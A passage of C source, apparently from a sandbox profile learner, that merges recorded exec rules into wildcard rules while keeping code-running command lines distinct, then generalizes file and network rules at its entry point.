	ssize_t code = e->argv ? code_arg(e->glob, e->argv, e->argc) : -1;
	bool exact = runs_code(e->glob);
	for (size_t i = 0; e->argv && i < e->argc && !exact; i++) {
		if ((ssize_t)i == code)
			continue;
		char *a = scratch_temp_name(e->argv[i], o, sc);
		if (!a)
			return -ENOMEM;
		free(e->argv[i]);
		e->argv[i] = a;
	}
	return 0;
}

/*
 * Rules that may merge: same program, argument count, and the same code
 * argument; never two different command lines of a program that runs code.
 */
static bool same_group(const struct exec_rule *a, const struct exec_rule *b)
{
	if (strcmp(a->path, b->path) != 0 || !a->argv != !b->argv || a->argc != b->argc)
		return false;
	if (a->argv && runs_code(a->glob))
		for (size_t k = 0; k < a->argc; k++)
			if (strcmp(a->argv[k], b->argv[k]) != 0)
				return false;
	ssize_t ca = a->argv ? code_arg(a->glob, a->argv, a->argc) : -1;
	ssize_t cb = b->argv ? code_arg(b->glob, b->argv, b->argc) : -1;
	if (ca != cb)
		return false;
	return ca < 0 || strcmp(a->argv[ca], b->argv[ca]) == 0;
}

static void exec_rule_clear(struct exec_rule *e)
{
	free(e->path);
	free(e->glob);
	for (size_t i = 0; i < e->argc; i++)
		free(e->argv[i]);
	free(e->argv);
}

static int generalize_exec(struct profile *p, const struct learn_options *o,
			   const struct scratch *sc)
{
	_cleanup_free_ bool *dead = calloc(p->n_exec ? p->n_exec : 1, sizeof(bool));
	if (!dead)
		return -ENOMEM;
	for (size_t i = 0; i < p->n_exec; i++) {
		int r = exec_rewrite(&p->exec[i], o, sc);
		if (r < 0)
			return r;
	}
	for (size_t i = 0; i < p->n_exec; i++) {
		struct exec_rule *e = &p->exec[i];
		if (dead[i])
			continue;
		for (size_t j = i + 1; j < p->n_exec; j++) {
			struct exec_rule *x = &p->exec[j];
			if (dead[j] || !same_group(e, x))
				continue;
			/* Where they differ, any argument; where they agree, that one. */
			for (size_t k = 0; k < e->argc; k++) {
				if (strcmp(e->argv[k], x->argv[k]) == 0 ||
				    strcmp(e->argv[k], "*") == 0)
					continue;
				char *star = strdup("*");
				if (!star)
					return -ENOMEM;
				free(e->argv[k]);
				e->argv[k] = star;
			}
			meta_merge(&e->meta, &x->meta);
			dead[j] = true;
		}
	}
	size_t w = 0;
	for (size_t i = 0; i < p->n_exec; i++) {
		if (dead[i])
			exec_rule_clear(&p->exec[i]);
		else
			p->exec[w++] = p->exec[i];
	}
	p->n_exec = w;
	return 0;
}

/* ---- entry point ------------------------------------------------------------------- */

int learn_generalize(struct profile *p, const struct learn_options *o)
{
	int r = 0;
	if (o->enabled) {
		struct scratch sc = {0};
		r = scratch_collect(o->scratch_from ? o->scratch_from : p, &sc);
		if (r == 0)
			r = generalize_files(p, o, &sc);
		if (r == 0)
			r = generalize_net(p, o, &sc);
		if (r == 0)
			r = generalize_exec(p, o, &sc);
		scratch_free(&sc);
	} else {
		r = merge_net_rules(p);
	}
	merge_file_rules(p);
	return r;
}
